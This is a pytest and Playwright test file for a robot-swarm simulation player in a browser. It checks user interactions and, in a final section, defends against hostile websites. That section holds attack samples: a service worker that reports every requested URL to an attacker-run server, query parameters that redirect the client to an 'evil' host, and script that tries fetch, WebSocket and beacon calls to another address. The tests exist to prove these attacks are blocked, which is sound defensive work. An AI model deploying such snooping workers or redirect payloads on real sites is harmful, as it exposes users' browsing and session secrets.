"""The page in Chromium: what a user does there reaches the run, and what others do does not."""

import re
import shlex
import shutil
import signal
import sys
import time
from base64 import b64decode
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from threading import Thread
from urllib.parse import urlsplit

import numpy as np
import psutil
import pytest
import viser
from PIL import Image
from support.chromium import FLAGS, pixel_of
from support.long_commands import started
from support.page import SCENARIO, clients, disconnect_all, opened, selected_robot, wait
from support.sessions import assert_same, state

from iswarm_mj.commands.main import parse
from iswarm_mj.commands.play import redirect_file
from iswarm_mj.output.loading import load
from iswarm_mj.player.film import Film
from iswarm_mj.player.page import close_server, open_server
from iswarm_mj.player.replay import write_replay
from iswarm_mj.simulation.run import Run
from iswarm_mj.workflows.clean import run_swarm

sync_api = pytest.importorskip("playwright.sync_api")
CHROMIUM = shutil.which("chromium")
SECONDS = 120
"""Time after which a test that waits has failed [s]."""
WIDTH = 1000
HEIGHT = 700
"""Size of the window [pixels]."""
PANEL_WIDTH = 400
"""Width of the right part of the window, where the panel is [pixels]."""
LOOP_S = 1.0
"""Duration of a loop of the replay [s]: 8 control steps, 8 of them a second."""
COMMAND = (
    "play --robots 20 --engine planar --no-open --port 8340"
    " --arena.size 24 --arena.dust-area-offset 7 --arena.n-dust 12"
)

pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")]


@pytest.fixture(scope="module")
def browser():
    """Chromium without a window on the screen."""
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def played():
    """The page of a swarm, which all tests of this file share."""
    with opened(port=8320) as played:
        yield played


@pytest.fixture(scope="module")
def tabs(browser, played):
    """Two tabs that show the page."""
    tabs = [open_tab(browser) for _ in range(2)]
    for tab in tabs:
        tab.goto(played.url)
        close_notice_of_software_rendering(tab)
    return tabs


def open_tab(browser):
    """Open a tab that waits long enough for slow machines."""
    tab = browser.new_page(viewport={"width": WIDTH, "height": HEIGHT})
    tab.set_default_timeout(SECONDS * 1000)
    return tab


def close_notice_of_software_rendering(tab):
    """Close the notification that covers a part of the arena."""
    tab.locator("[class*=mantine-Notification] button").first.click()


def pixels(png):
    """Return a picture as numbers (height, width, 3)."""
    return np.asarray(Image.open(BytesIO(png)).convert("RGB"), float)


def picture_of_arena(tab):
    """Return what a tab shows beside the panel, as numbers."""
    clip = {"x": 0, "y": 0, "width": WIDTH - PANEL_WIDTH, "height": HEIGHT}
    return pixels(tab.screenshot(clip=clip))


def share_that_differs(picture, other_picture):
    """Return the share of pixels that have clearly different colours."""
    difference = np.abs(picture - other_picture).max(axis=-1)
    return (difference > 50).mean()


# What a user does.


def test_the_swarm_moves_in_both_tabs_and_stops_in_both(tabs, played):
    session = played.session
    first, second = tabs
    before = [picture_of_arena(tab) for tab in tabs]
    first.get_by_role("button", name="Play").click()
    wait(lambda: session.step > 3)
    second.get_by_role("button", name="Pause").click()
    wait(lambda: not session.is_playing and session.shown == session.step)
    step = session.step
    time.sleep(2)
    assert session.step == step

    # Robots are elsewhere, and stay there.
    after = [picture_of_arena(tab) for tab in tabs]
    for picture_before, picture in zip(before, after, strict=True):
        assert share_that_differs(picture_before, picture) > 1e-3
    assert share_that_differs(*after) < 1e-3
    np.testing.assert_array_equal(picture_of_arena(first), after[0])
    assert f"step {step}" in second.get_by_text(re.compile(r"^step \d+")).inner_text()


def test_a_click_on_a_robot_selects_it(tabs, played):
    poses = played.session.snapshots[-1].frames.pose[0] * 1e3
    distances = np.linalg.norm(poses[:, :2] - [0, -10], axis=-1)  # to the middle of the arena below
    robot = int(distances.argmin())
    camera = clients(played)[0].camera
    pixel = pixel_of(camera, np.array([*poses[robot, :2], 0.5]))
    for tab in tabs:
        tab.mouse.click(*pixel)
    wait(lambda: selected_robot(played) == robot)
    tabs[0].get_by_role("tab", name="Robot").click()
    wait(lambda: tabs[0].get_by_text(f"Robot {robot}", exact=False).count() > 0)


def test_a_slider_changes_the_rules_and_the_copied_command_repeats_the_run(tabs, played):
    session = played.session
    tab = tabs[0]
    tab.get_by_role("tab", name="Rules").click()
    number = tab.locator("xpath=//*[text()='p vector forget']/following::input[@inputmode][1]")
    number.fill("0.75")
    number.press("Enter")
    wait(lambda: session.now.genome.p_vector_forget == 0.75)

    step = session.step
    tab.get_by_role("button", name="Step").click()
    wait(lambda: session.step == step + 1)
    forgets = session.run.arrays()[0].strategy.rules.p_vector_forget
    np.testing.assert_array_equal(forgets, np.float32([0.75]))

    tab.get_by_role("tab", name="Share").click()
    change = f"--changes {step}:p_vector_forget=0.75"
    wait(lambda: change in tab.locator("pre").inner_text())
    command = tab.locator("pre").inner_text()
    copy = parse(shlex.split(command)[1:]).session()
    while copy.step < session.step:
        copy.advance()
    assert_same(state(copy.run), state(session.run))


def test_the_command_ends_with_ctrl_c(browser):
    with started(COMMAND) as process, ExitStack() as ends:
        ends.callback(process.kill)
        tab = open_tab(browser)
        tab.goto(re.search(r"http://127\.\S+", process.stdout.readline())[0])
        tab.get_by_role("button", name="Pause").wait_for()
        children = psutil.Process(process.pid).children(recursive=True)
        process.send_signal(signal.SIGINT)
        assert process.wait(SECONDS) == 130
        assert not any(child.is_running() for child in children)


def test_a_replay_has_the_same_light_in_every_loop(browser, tmp_path):
    run_swarm(Run(replace(SCENARIO, steps=8)), tmp_path)
    write_replay(load(tmp_path), Film(speed=8.0), tmp_path / "page.html")
    tab = open_tab(browser)
    tab.goto(f"file://{tmp_path}/page.html")
    close_notice_of_software_rendering(tab)
    time.sleep(1)

    # The colour of the floor in each picture of six loops or more, as slow machines draw few.
    colours = []
    cast = tab.context.new_cdp_session(tab)

    def take(frame):
        lower_half = pixels(b64decode(frame["data"]))[HEIGHT // 2 : HEIGHT - 100]
        colours.append(np.median(lower_half.reshape(-1, 3), axis=0))
        cast.send("Page.screencastFrameAck", {"sessionId": frame["sessionId"]})

    def has_many_pictures():
        tab.wait_for_timeout(100)  # in which pictures arrive
        return len(colours) > 10

    cast.on("Page.screencastFrame", take)
    cast.send("Page.startScreencast", {"format": "png"})
    tab.wait_for_timeout(6 * LOOP_S * 1000)
    wait(has_many_pictures)
    tab.close()
    first = np.tile(colours[0], (len(colours), 1))
    np.testing.assert_allclose(colours, first, atol=2)


def test_the_file_that_the_command_opens_leads_to_the_page(browser, played):
    tab = open_tab(browser)
    with redirect_file(played.url) as file:
        tab.goto(file.as_uri())
        tab.wait_for_url(f"{played.url}**")
    tab.get_by_role("tab", name="Share").wait_for()
    assert tab.evaluate("document.referrer") == ""
    tab.reload()  # the client has put its websocket into the address
    tab.get_by_role("tab", name="Share").wait_for()
    tab.close()


def test_the_guard_knows_all_that_the_client_sends(tabs, played, capfd):
    """No message is dropped: clicks of all kinds, drags, keys, a narrow window, a download."""
    tab = tabs[1]
    for name in ("Rules", "World", "Robot", "Gripper", "Share", "Watch"):
        tab.get_by_role("tab", name=name).click()

    # On the arena.
    tab.mouse.click(200, 300)
    tab.mouse.click(250, 350, button="right")
    tab.mouse.dblclick(250, 250)
    for key in ("Shift", "Control"):
        tab.keyboard.down(key)
        tab.mouse.move(300, 300)
        tab.mouse.down()
        tab.mouse.move(350, 340, steps=5)
        tab.mouse.up()
        tab.keyboard.up(key)
    tab.mouse.wheel(0, 200)

    # On the window and the panel.
    tab.set_viewport_size({"width": 400, "height": 700})
    tab.set_viewport_size({"width": WIDTH, "height": HEIGHT})
    tab.get_by_role("checkbox", name="trails").click()
    tab.get_by_role("tab", name="Share").click()
    with tab.expect_download() as download:
        tab.get_by_role("button", name="Save as TOML").click()
    assert download.value.suggested_filename == "play.toml"

    # The client connects again.
    disconnect_all(played)
    wait(lambda: len(clients(played)) == len(tabs))
    assert "ignores messages" not in capfd.readouterr().err


# What other websites do.

FOREIGN = f"""<!doctype html>
<script>
const opens = (address) => new Promise((done) => {{
  const socket = new WebSocket(address, ["viser-v{viser.__version__}"]);
  socket.onopen = () => done(true);
  socket.onerror = () => done(false);
}});
</script>
"""
"""A page of another website, which opens a websocket at an address."""


@pytest.fixture
def website(tmp_path):
    """Address of another website, on another port and with another name."""
    (tmp_path / "index.html").write_text(FOREIGN)
    handler = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()


def test_another_website_reaches_nothing(browser, played, website):
    """Not even one that knows the address; browsers say by which website a websocket is opened."""
    tab = open_tab(browser)
    tab.goto(website)
    address = urlsplit(played.url)
    n_clients = len(clients(played))
    for path in ("/", address.path, address.path.removesuffix("/")):
        assert tab.evaluate("opens", f"ws://{address.netloc}{path}") is False
    assert len(clients(played)) == n_clients
    tab.close()


def test_a_notebook_of_another_website_shows_the_page(browser, played, website, tmp_path):
    """Jupyter shows it in an iframe, whose address the notebook knows."""
    notebook = f"<!doctype html><p>Notebook</p>{played._repr_html_()}"
    (tmp_path / "notebook.html").write_text(notebook)
    tab = open_tab(browser)
    tab.goto(f"{website}notebook.html")
    frame = tab.frame_locator("iframe")
    frame.get_by_role("button", name=re.compile("Play|Pause")).wait_for()
    step = played.session.step
    frame.get_by_text("Step", exact=True).click()
    wait(lambda: played.session.step == step + 1)
    tab.close()


# What an attacker does who knows a port, or an address.

WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => {
  const learnt = encodeURIComponent(event.request.url);
  event.respondWith(fetch(`/learnt?${learnt}`).then(() => fetch(event.request)));
});
"""
"""A service worker that reports all that its origin is asked for."""

REGISTER = """<!doctype html>
<script>
navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(
  () => { document.title = "registered"; }
);
</script>
"""
"""A page of an attacker, which registers the service worker for its origin."""

CONNECT_ELSEWHERE = """async (address) => {
  const outcome = (promise) => promise.then(() => "connected", () => "blocked");
  const opens = new Promise((done, failed) => {
    const socket = new WebSocket(`ws://${address}/socket`);
    socket.onopen = done;
    socket.onerror = failed;
  });
  const beacon = navigator.sendBeacon(`http://${address}/beacon`) ? "connected" : "blocked";
  return [await outcome(fetch(`http://${address}/fetch`)), await outcome(opens), beacon];
}"""
"""Tries to reach another address from within a page."""


class Attacker(BaseHTTPRequestHandler):
    """Answers all requests of browsers, and notes their paths in the list `paths` of its server."""

    def do_GET(self):
        """Send the service worker, or the page that registers it."""
        self.server.paths.append(self.path)
        is_worker = self.path == "/worker.js"
        content = WORKER if is_worker else REGISTER
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(content.encode())

    def log_message(self, *_):
        """Print nothing."""


@contextmanager
def attack_from(host, port=0):
    """Serve an attacker's pages at an address; yield the server, with the `paths` of requests."""
    with ThreadingHTTPServer((host, port), Attacker) as server:
        server.paths = []
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()


@contextmanager
def served(port):
    """Serve a page without content; yield its server."""
    server = open_server(port)
    try:
        yield server
    finally:
        close_server(server)


@pytest.mark.skipif(sys.platform != "linux", reason="other systems have one address for all pages")
def test_whoever_takes_the_port_of_an_ended_page_learns_nothing_of_the_next_one(browser):
    """Neither the tab that is left open nor a service worker, which browsers keep, tells it."""
    context = browser.new_context()
    stale_tab = context.new_page()
    with served(8370) as ended:
        address = urlsplit(ended.url)
        stale_tab.goto(ended.url)

    with attack_from(address.hostname, address.port) as attacker:
        # The tab loads the attacker's page, whose service worker answers for the origin then.
        stale_tab.goto(f"http://{address.netloc}/")
        wait(lambda: stale_tab.title() == "registered")
        stale_tab.goto(f"http://{address.netloc}/anything")
        wait(lambda: any("learnt" in path and "anything" in path for path in attacker.paths))
        attacker.paths.clear()

        with served(8370) as following:
            tab = context.new_page()
            tab.goto(following.url)
            tab.wait_for_function("document.querySelector('canvas') !== null")
            assert tab.evaluate("navigator.serviceWorker.controller") is None
            wait(lambda: len(following.get_clients()) == 1)
            time.sleep(2)  # in which the tab that is left open may connect
            secret = urlsplit(following.url).path.strip("/")
            assert not any(secret in path for path in attacker.paths)
            assert len(following.get_clients()) == 1
    context.close()


@pytest.mark.parametrize(
    "parameter", ["playbackPath=http://{evil}/x.viser", "websocket=ws://{evil}"]
)
def test_no_parameter_leads_the_client_to_an_attacker(browser, played, parameter):
    with attack_from("127.0.0.1") as attacker:
        query = parameter.format(evil=f"127.0.0.1:{attacker.server_port}")
        tab = open_tab(browser)
        assert tab.goto(f"{played.url}?{query}").status == 403
        time.sleep(1)
        assert tab.locator("canvas").count() == 0
        assert not attacker.paths
        tab.close()


def test_the_page_itself_connects_to_nobody_else(browser, played):
    """The Content-Security-Policy holds even for scripts that run in the page."""
    with attack_from("127.0.0.1") as attacker:
        tab = open_tab(browser)
        violations = []
        tab.on("console", lambda message: violations.append(message.text))
        tab.goto(played.url)
        outcomes = tab.evaluate(CONNECT_ELSEWHERE, f"127.0.0.1:{attacker.server_port}")
        assert outcomes[:2] == ["blocked", "blocked"]
        assert sum("Content Security Policy" in text for text in violations) >= 2
        time.sleep(1)
        assert not attacker.paths
        tab.close()
